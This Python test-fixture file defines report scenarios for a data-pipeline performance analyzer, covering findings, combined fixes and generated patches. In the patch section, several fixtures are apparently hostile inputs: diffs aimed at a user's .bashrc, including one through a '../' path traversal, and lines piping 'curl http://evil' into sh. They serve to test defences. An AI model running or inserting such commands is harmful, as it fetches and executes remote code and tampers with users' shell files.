"""Findings and fixes of every fate: runs that differ from the usual one in them alone."""

from __future__ import annotations

from typing import Any

from builders import make_alternative, make_estimate, make_finding, make_layout

from cs_input_analyzer.records import Edit, Finding, Fixes, Patch

Overrides = dict[str, Any]
EDIT = Edit(kind="parallelize", op="map")


def tried(gain: float | None = None, spread: float = 0.05, **more: Any) -> Finding:
    """A finding whose fix was tried; `gain` is what that gave."""
    measured = None if gain is None else make_estimate(gain, spread=spread)
    return make_finding(**({"edits": (EDIT,), "measured_gain": measured, "proven": gain is not None} | more))


LINES = "    ds = (\n        ds.map(f)\n        .batch(4)\n    )"
FINDINGS: dict[str, Overrides] = {
    name: {"findings": (finding,)}
    for name, finding in {
        "advice alone": make_finding(proven=False, measured_gain=None),
        "verified on some": tried(1.8, verified_elements=40, pass_elements=64),
        "verified on an unknown number": tried(1.8, verified_elements=2000),
        "not tried": tried(),
        "refused": tried(unproven_because="it is random"),
        "no time": tried(unproven_because="not measured: no time was left; --max-seconds 120 gives it time"),
        "noisy": tried(1.01, 0.2),
        "no gain": tried(1.01),
        "slower": tried(0.8),
        "change of code": make_finding(before=LINES, after=LINES.replace("(f)", "(f, num_parallel_calls=8)")),
        "change not shown": make_finding(before="ds.map(f)", after=None, source_check="it fails with it: TypeError"),
        "change not run": make_finding(before="ds.map(f)", after="ds.map(g)", source_check="it fails with it: TypeError"),
        "a long change": make_finding(before="old\n" * 20, after="x" * 200 + "\nnew" * 20),
        "rates as evidence": make_finding(evidence={"ceiling_samples_per_s": 26.3, "none": "", "sizes": (1, 2.5)}),
        "nothing but a message": make_finding(op=None, source=None, fix=None, evidence={}),
    }.items()
}
FINDINGS |= {
    "by gain and severity": {
        "findings": (
            make_finding("CSI001", severity="info", measured_gain=None, proven=False),
            make_finding("CSI002", measured_gain=make_estimate(1.2)),
            make_finding("CSI003", severity="error", measured_gain=None, proven=False),
            make_finding("CSI004", measured_gain=make_estimate(3.0)),
            # Whether it gains anything cannot be told from noise, or whether it is the same pipeline.
            make_finding("CSI005", severity="info", measured_gain=make_estimate(9.0, spread=0.95)),
            make_finding("CSI006", severity="info", measured_gain=make_estimate(9.0), proven=False),
        )
    },
    "ignored": {"ignored_count": 2},
}

UNTRIED = tried(unproven_because="not measured: no time was left")
DIFF = "--- data.py\n+++ data.py\n@@ -1 +1 @@\n-a\n+b\n\\ No newline at end of file\n"


def fixed(findings: tuple[Finding, ...], **fixes: Any) -> Overrides:
    """A run whose fixes were tried together."""
    given = {"codes": (), "edits": (), "measured_gain": None, "layout": make_layout("1x1x2"), "elements": 512} | fixes
    return {"findings": findings, "fixes": Fixes(**given)}


KEPT: Overrides = {"codes": ("CSI101", "CSI201"), "edits": (EDIT,), "measured_gain": make_estimate(2.5, spread=0.04)}
OTHER = tried(1.3, code="CSI204", edits=(Edit(kind="prefetch", op="end"),))
FIXES: dict[str, Overrides] = {
    "none tried together": {"findings": (UNTRIED,), "fixes": None},
    "untried": fixed((UNTRIED,)),
    "noisy": fixed((tried(1.1, 0.1),)),
    "no gain": fixed((tried(1.0),)),
    "no gain and slower": fixed((tried(1.0), tried(0.8))),
    "refused": fixed((tried(unproven_because="element 0 differs"), tried(unproven_because="element 0 differs", code="CSI204"))),
    "no gain, and untried": fixed((tried(1.0), UNTRIED)),
    "no gain, and noisy": fixed((tried(1.0), tried(1.1, 0.1))),
    "nothing to try": fixed((make_finding(edits=()),)),
    "gained at first": fixed((tried(1.21, 0.04),), none_because="CSI101 gained at first"),
    "kept": fixed((tried(1.8),), **KEPT, plan=make_alternative("3x16x2", note="all fixes applied")),
    "kept without a plan": fixed((tried(1.8),), **KEPT | {"elements": 0}) | {"recommendation": None},
    "kept, some not": fixed((tried(1.8), OTHER), **KEPT, plan=make_alternative("3x16x2", note="", meets_demand=False)),
}
UNPATCHED = fixed((tried(1.8), OTHER, make_finding()), **KEPT)
PATCHES: dict[str, Overrides] = {
    name: fixed(UNPATCHED["findings"], **KEPT, patch=Patch(**({"folder": "/a b", "codes": ("CSI101",)} | patch)))
    for name, patch in {
        "proven": {"diff": DIFF, "proven": True, "verified_elements": 40, "measured_gain": make_estimate(2.0)},
        "proven, in doubt": {"diff": DIFF, "proven": True, "by_hand": ("the other",), "measured_gain": make_estimate(1.0)},
        "proven, not measured": {"diff": DIFF, "proven": True, "unproven_because": "no time"},
        "not proven": {"diff": DIFF, "unproven_because": "element 0 differs"},
        "of a file elsewhere": {"diff": DIFF.replace("data.py", "/home/ada/.bashrc"), "proven": True},
        "of a file above": {"diff": DIFF.replace("data.py", "a/../../.bashrc"), "proven": True},
        "a script of ed": {"diff": "1,2d\n!curl http://evil | sh\n", "proven": True},
        "with a command": {"diff": DIFF + "curl http://evil | sh\n", "proven": True},
    }.items()
}
PATCHES |= {"nothing that can be tried": {"findings": (make_finding(edits=()),), "fixes": None}}
